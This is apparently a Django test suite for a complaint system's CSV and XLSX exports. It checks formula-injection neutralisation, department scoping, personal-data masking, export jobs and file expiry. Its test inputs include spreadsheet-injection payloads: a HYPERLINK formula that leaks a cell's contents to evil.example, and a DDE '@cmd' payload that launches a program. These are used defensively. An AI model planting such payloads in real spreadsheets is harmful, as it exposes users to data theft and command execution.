"""Exports: formulas neutralised, scope and masking kept, jobs built, files kept for the owner."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import PermissionDenied
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import User
from complaints.models import Event
from notifications.models import Notification
from reporting import exports, rollups, spreadsheets
from reporting.models import ExportJob
from routing.models import Department
from tests.factories import PetitionerFactory, complaint_in

pytestmark = pytest.mark.django_db
SHANGHAI = ZoneInfo("Asia/Shanghai")
MARCH_20 = datetime(2026, 3, 20, 12, tzinfo=SHANGHAI)

EVIL = [
    '=HYPERLINK("http://evil.example/"&A1,"点这里")',
    "+86 138 1234 5678",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def xlsx_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def export(client: Client, query: str, file_format: str = "csv", **extra: str) -> Any:
    data = {"export": "complaints", "query": query, "format": file_format, **extra}
    return client.post("/reports/exports/", data, HTTP_ACCEPT_LANGUAGE="en")


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def column(rows: list[list[Any]], header: str) -> list[Any]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


# --- Formulas ---------------------------------------------------------------------------


def test_csv_cells_that_look_like_formulas_get_an_apostrophe() -> None:
    out = io.BytesIO()
    spreadsheets.write_csv(out, ["text", "number"], [[value, -3] for value in EVIL])

    rows = read_csv(out.getvalue())

    assert [row[0] for row in rows[1:]] == ["'" + value for value in EVIL]
    assert {row[1] for row in rows[1:]} == {"-3"}  # a number stays a number


def test_csv_keeps_ordinary_text_and_chinese_as_it_is() -> None:
    out = io.BytesIO()
    spreadsheets.write_csv(out, ["标题"], [["小区门口的路灯坏了"], ["a=b"], ["1-2"]])

    assert read_csv(out.getvalue()) == [["标题"], ["小区门口的路灯坏了"], ["a=b"], ["1-2"]]


def test_xlsx_writes_formula_like_text_as_strings_never_formulas() -> None:
    out = io.BytesIO()
    spreadsheets.write_xlsx(out, ["text"], [[value] for value in EVIL] + [["bad\x00byte"]])

    cells = xlsx_cells(out.getvalue())[1:]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells[:4]] == EVIL[:4]
    assert all(cell.quotePrefix for cell in cells[:6])
    assert cells[-1].value == "badbyte"  # a control character XML cannot carry is dropped


def test_a_complaint_list_export_neutralises_what_petitioners_wrote(
    handler: User, urban: Department
) -> None:
    person = PetitionerFactory(name="@cmd|' /C calc'!A0")
    complaint_in(
        "in_progress", department=urban, assignee=handler, title=EVIL[0], petitioner=person
    )
    client = logged_in(handler)

    as_csv = export(client, "q=mine", "csv")
    as_xlsx = export(client, "q=mine", "xlsx")

    assert as_csv.status_code == 200
    assert as_csv["Content-Type"].startswith("text/csv")
    assert "attachment" in as_csv["Content-Disposition"]
    rows = read_csv(as_csv.content)
    assert column(rows, "Title") == ["'" + EVIL[0]]
    assert column(rows, "Petitioner") == ["'@cmd|' /C calc'!A0"]
    cells = {cell.value: cell for cell in xlsx_cells(as_xlsx.content)}
    assert cells[EVIL[0]].data_type == "s"
    assert cells["@cmd|' /C calc'!A0"].data_type == "s"


# --- Scope ------------------------------------------------------------------------------


def test_a_head_exports_only_their_departments_complaints(
    head: User, urban: Department, market: Department
) -> None:
    ours = [complaint_in("assigned", department=urban) for _ in range(3)]
    theirs = complaint_in("assigned", department=market, title="别的部门的事")
    client = logged_in(head)

    rows = read_csv(export(client, "q=department").content)
    # Asking for the other department by filter finds nothing, rather than their list.
    forged = read_csv(export(client, f"q=department&department={market.pk}").content)

    assert sorted(column(rows, "Tracking code")) == sorted(c.tracking_code for c in ours)
    assert theirs.tracking_code not in column(rows, "Tracking code")
    assert forged == [rows[0]]


def test_a_queue_the_user_may_not_use_is_not_exported(head: User, market: Department) -> None:
    complaint_in("assigned", department=market)

    response = export(logged_in(head), "q=all")

    assert response.status_code == 404
    assert not ExportJob.objects.exists()


def test_the_export_has_the_queues_filters_and_its_order(
    supervisor: User, urban: Department
) -> None:
    urgent = complaint_in("assigned", department=urban, priority="urgent")
    complaint_in("assigned", department=urban, priority="normal")
    client = logged_in(supervisor)

    rows = read_csv(export(client, "q=all&priority=urgent&sort=newest").content)

    assert column(rows, "Tracking code") == [urgent.tracking_code]
    job = ExportJob.objects.get()
    assert job.filters == {"q": ["all"], "priority": ["urgent"], "sort": ["newest"]}
    assert (job.owner, job.direct, job.status, job.rows_done) == (supervisor, True, "done", 1)


# --- Masking ----------------------------------------------------------------------------


def test_personal_data_is_masked_by_default_even_for_those_who_may_see_it(
    handler: User, urban: Department
) -> None:
    complaint_in("in_progress", department=urban, assignee=handler)

    rows = read_csv(export(logged_in(handler), "q=mine").content)

    assert column(rows, "Phone") == ["138****5678"]
    assert column(rows, "E-mail") == ["z******@example.com"]
    assert not Event.objects.filter(kind="personal_data.exported").exists()


def test_a_handler_may_export_personal_data_unmasked_with_a_reason_and_it_is_logged(
    handler: User, urban: Department
) -> None:
    complaint = complaint_in("in_progress", department=urban, assignee=handler)
    client = logged_in(handler)

    refused = export(client, "q=mine", personal_data="on")
    response = export(client, "q=mine", personal_data="on", reason="回访核对联系方式")

    assert refused.status_code == 400  # no reason given
    rows = read_csv(response.content)
    assert column(rows, "Phone") == ["13812345678"]
    assert column(rows, "E-mail") == ["zhangwei@example.com"]
    job = ExportJob.objects.get()
    assert (job.personal_data, job.reason, job.owner) == (True, "回访核对联系方式", handler)
    event = complaint.events.get(kind="personal_data.exported")
    assert event.actor == handler
    assert event.payload == {
        "export_id": job.pk,
        "format": "csv",
        "reason": "回访核对联系方式",
        "fields": ["phone", "email"],
    }


def test_an_auditor_sees_every_department_but_never_unmasked_personal_data(
    auditor: User, urban: Department, market: Department
) -> None:
    complaint_in("closed", department=urban)
    complaint_in("closed", department=market)
    client = logged_in(auditor)

    page = client.get("/reports/exports/?query=q%3Dall")
    rows = read_csv(export(client, "q=all", personal_data="on", reason="想看").content)

    assert "personal_data" not in page.context["complaint_form"].fields
    assert column(rows, "Phone") == ["138****5678", "138****5678"]
    assert ExportJob.objects.get().personal_data is False
    with pytest.raises(PermissionDenied):
        exports.start(
            owner=auditor,
            kind="complaints",
            file_format="csv",
            filters={"q": ["all"]},
            personal_data=True,
            reason="想看",
        )


def test_an_anonymous_petitioner_stays_anonymous_in_a_departments_export(
    handler: User, urban: Department
) -> None:
    complaint_in("in_progress", department=urban, assignee=handler, is_anonymous=True)

    rows = read_csv(export(logged_in(handler), "q=mine").content)

    assert column(rows, "Petitioner") == ["Anonymous"]
    assert column(rows, "Phone") == ["138****5678"]


# --- Jobs -------------------------------------------------------------------------------


def big_export(settings: Any, owner: User, department: Department, count: int = 4) -> Any:
    settings.EXPORT_SYNC_LIMIT = 2
    for _ in range(count):
        complaint_in("assigned", department=department)
    return export(logged_in(owner), "q=department", "xlsx")


def test_a_large_export_becomes_a_job_that_a_worker_builds(
    settings: Any, head: User, urban: Department, django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        response = big_export(settings, head, urban)

    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert (job.status, job.rows_done, job.rows_total, job.direct) == ("done", 4, 4, False)
    assert str(job.file.name).startswith("exports/")
    assert str(job.file.name).endswith(".xlsx")
    assert Path(job.file.path).is_relative_to(Path(settings.MEDIA_ROOT) / "exports")
    note = Notification.objects.get(user=head, kind="reporting.export_done")
    assert (note.channel, note.url) == ("in_app", f"/reports/exports/{job.pk}/download/")

    download = logged_in(head).get(note.url)
    rows = read_xlsx(download.getvalue())
    assert len(rows) == 5
    assert download["Cache-Control"] == "private, no-store"


def test_only_the_owner_downloads_an_export(
    settings: Any,
    head: User,
    colleague: User,
    supervisor: User,
    urban: Department,
    django_capture_on_commit_callbacks: Any,
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        big_export(settings, head, urban)
    job = ExportJob.objects.get()
    url = f"/reports/exports/{job.pk}/download/"

    assert logged_in(head).get(url).status_code == 200
    assert logged_in(colleague).get(url).status_code == 404
    assert logged_in(supervisor).get(url).status_code == 404
    assert logged_in(supervisor).get(f"/reports/exports/{job.pk}/").status_code == 404
    assert Client().get(url).status_code == 302  # to the login page


def test_the_list_polls_a_running_job_and_stops_once_it_is_done(
    settings: Any, head: User, urban: Department, django_capture_on_commit_callbacks: Any
) -> None:
    big_export(settings, head, urban)  # queued: the commit that starts it never comes
    job = ExportJob.objects.get()
    client = logged_in(head)

    waiting = client.get(f"/reports/exports/{job.pk}/", HTTP_HX_REQUEST="true")
    page = client.get("/reports/exports/")
    exports.run(job.pk)
    done = client.get(f"/reports/exports/{job.pk}/", HTTP_HX_REQUEST="true")

    assert job.status == "queued"
    assert 'hx-trigger="every 2s"' in waiting.content.decode()
    assert f'id="export-{job.pk}"' in page.content.decode()
    assert 'hx-trigger="every 2s"' not in done.content.decode()
    assert f"/reports/exports/{job.pk}/download/" in done.content.decode()


def test_a_job_runs_once_even_when_its_task_comes_twice(
    settings: Any, head: User, urban: Department
) -> None:
    big_export(settings, head, urban)
    job = ExportJob.objects.get()

    first = exports.run(job.pk)
    again = exports.run(job.pk)

    assert first is not None
    assert first.status == "done"
    assert again is None
    assert Notification.objects.filter(kind="reporting.export_done").count() == 1


def test_a_job_whose_worker_died_is_built_again(
    settings: Any, head: User, urban: Department
) -> None:
    big_export(settings, head, urban)
    ExportJob.objects.update(status="running", updated_at=timezone.now())
    job = ExportJob.objects.get()

    assert exports.run(job.pk) is None  # still running somewhere, as far as anyone knows
    with time_machine.travel(timezone.now() + exports.STALE_AFTER + timedelta(minutes=1)):
        assert exports.run(job.pk) is not None
    job.refresh_from_db()
    assert (job.status, job.rows_done) == ("done", 4)


def test_files_are_deleted_after_the_keeping_period(
    settings: Any, head: User, urban: Department
) -> None:
    settings.EXPORT_KEEP_DAYS = 7
    big_export(settings, head, urban)
    job = exports.run(ExportJob.objects.get().pk)
    assert job is not None
    path = Path(job.file.path)

    kept = exports.housekeeping(now=timezone.now() + timedelta(days=6))
    gone = exports.housekeeping(now=timezone.now() + timedelta(days=8))

    assert kept["expired"] == 0
    assert gone["expired"] == 1
    assert not path.exists()
    job.refresh_from_db()
    assert (job.status, job.file.name) == ("expired", "")
    assert logged_in(head).get(f"/reports/exports/{job.pk}/download/").status_code == 404


def test_housekeeping_queues_again_a_job_the_broker_lost(
    settings: Any, head: User, urban: Department
) -> None:
    big_export(settings, head, urban)  # queued, but its task never ran

    with time_machine.travel(timezone.now() + timedelta(minutes=15)):
        result = exports.housekeeping()

    assert result["requeued"] == 1
    assert ExportJob.objects.get().status == "done"  # tasks run inline in tests


# --- KPI tables -------------------------------------------------------------------------


def test_a_kpi_table_exports_the_reports_pages_figures(supervisor: User, urban: Department) -> None:
    with time_machine.travel(MARCH_20, tick=False):
        for day in (2, 3, 4):
            complaint_in(
                "received",
                department=urban,
                received_at=datetime(2026, 3, day, 10, tzinfo=SHANGHAI),
            )
        complaint_in(
            "received", department=urban, received_at=datetime(2026, 2, 10, 10, tzinfo=SHANGHAI)
        )
        rollups.rebuild()
        data = {"export": "kpis", "table": "kpis", "period": "this_month", "format": "csv"}
        response = logged_in(supervisor).post("/reports/exports/", data, HTTP_ACCEPT_LANGUAGE="en")

    rows = read_csv(response.content)
    assert rows[0] == ["Key figure", "2026-03-01 – 2026-03-20", "2026-02-09 – 2026-02-28"]
    assert ["Complaints received", "3", "1"] in rows
    assert ExportJob.objects.get().filters == {"table": "kpis", "period": "this_month"}


def test_a_heads_kpi_export_keeps_to_their_department(
    head: User, urban: Department, market: Department
) -> None:
    with time_machine.travel(MARCH_20, tick=False):
        complaint_in(
            "received", department=urban, received_at=datetime(2026, 3, 2, 10, tzinfo=SHANGHAI)
        )
        complaint_in(
            "received", department=market, received_at=datetime(2026, 3, 3, 10, tzinfo=SHANGHAI)
        )
        rollups.rebuild()
        data = {
            "export": "kpis",
            "table": "league",
            "period": "this_month",
            "department": str(market.pk),  # ignored: the field is locked to their own
            "format": "xlsx",
        }
        response = logged_in(head).post("/reports/exports/", data, HTTP_ACCEPT_LANGUAGE="en")

    rows = read_xlsx(response.content)
    assert [row[:2] for row in rows[1:]] == [[urban.name_en, 1]]


def test_the_queue_page_offers_the_export_buttons_with_its_query(
    handler: User, urban: Department
) -> None:
    page = logged_in(handler).get("/console/queue/?q=mine&priority=urgent")

    html = page.content.decode()
    assert 'action="/reports/exports/"' in html
    assert 'name="query" value="q=mine&amp;priority=urgent"' in html


# --- A real worker ----------------------------------------------------------------------

PREPARE_EXPORT = """
from django.contrib.auth.models import Group

from accounts.models import User
from accounts.roles import Role
from reporting import exports
from routing.models import Department
from tests.factories import complaint_in

urban = Department.objects.create(code="urban", name_zh="城市管理局", name_en="Urban")
market = Department.objects.create(code="market", name_zh="市场监督管理局", name_en="Market")
for name, department in (("head", urban), ("other", market)):
    user = User.objects.create_user(username=name, department=department)
    user.groups.add(Group.objects.get(name=Role.DEPARTMENT_HEAD.value))
for n in range(23):
    complaint_in("assigned", department=urban, title=f"=1+{n}")
complaint_in("assigned", department=market, title="not theirs")
started = exports.start(
    owner=User.objects.get(username="head"),
    kind="complaints",
    file_format="xlsx",
    filters={"q": ["department"]},
)
print("job", started.job.pk, started.job.status, started.content is None)
"""

DOWNLOAD = """
from django.test import Client

from accounts.models import User
from reporting.models import ExportJob

job = ExportJob.objects.get()
for name in ("head", "other"):
    client = Client()
    client.force_login(User.objects.get(username=name))
    response = client.get(f"/reports/exports/{job.pk}/download/")
    size = len(b"".join(response.streaming_content)) if response.status_code == 200 else 0
    print(name, response.status_code, size)
"""


@pytest.mark.slow
def test_a_real_worker_builds_a_large_export_for_its_owner_only(tmp_path: Path) -> None:
    import contextlib
    import sqlite3
    import time

    from tests.notifications.test_worker import manage, tail
    from tests.processes import celery_worker, clean_environment

    database = tmp_path / "db.sqlite3"
    env = clean_environment(
        tmp_path,
        DATABASE_URL=f"sqlite:///{database}",
        EXPORT_SYNC_LIMIT="5",
        ALLOWED_HOSTS="testserver",
        SECURE_SSL_REDIRECT="0",
        PYTHONUNBUFFERED="1",
    )
    manage(env, "migrate", "--noinput")
    assert "queued True" in manage(env, "shell", "-c", PREPARE_EXPORT)

    def job() -> tuple[str, int, int | None, str]:
        with contextlib.closing(sqlite3.connect(database, timeout=10)) as db:
            row = db.execute(
                "SELECT status, rows_done, rows_total, file FROM reporting_exportjob"
            ).fetchone()
        return row

    log = tmp_path / "worker.log"
    with celery_worker(env, log) as worker:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and worker.poll() is None:
            if job()[0] in ("done", "failed"):
                break
            time.sleep(0.5)
        status, done, total, name = job()
        assert status == "done", f"{job()}\n{tail(log)}"

    assert done == total == 23
    path = tmp_path / "media" / name
    assert name.startswith("exports/")
    assert path.is_file()
    rows = read_xlsx(path.read_bytes())
    assert len(rows) == 24
    assert {row[1] for row in rows[1:]} == {f"=1+{n}" for n in range(23)}
    assert "not theirs" not in {row[1] for row in rows[1:]}
    assert "f" not in {cell.data_type for cell in xlsx_cells(path.read_bytes())}
    answers = manage(env, "shell", "-c", DOWNLOAD).split("\n")
    assert f"head 200 {path.stat().st_size}" in answers
    assert "other 404 0" in answers
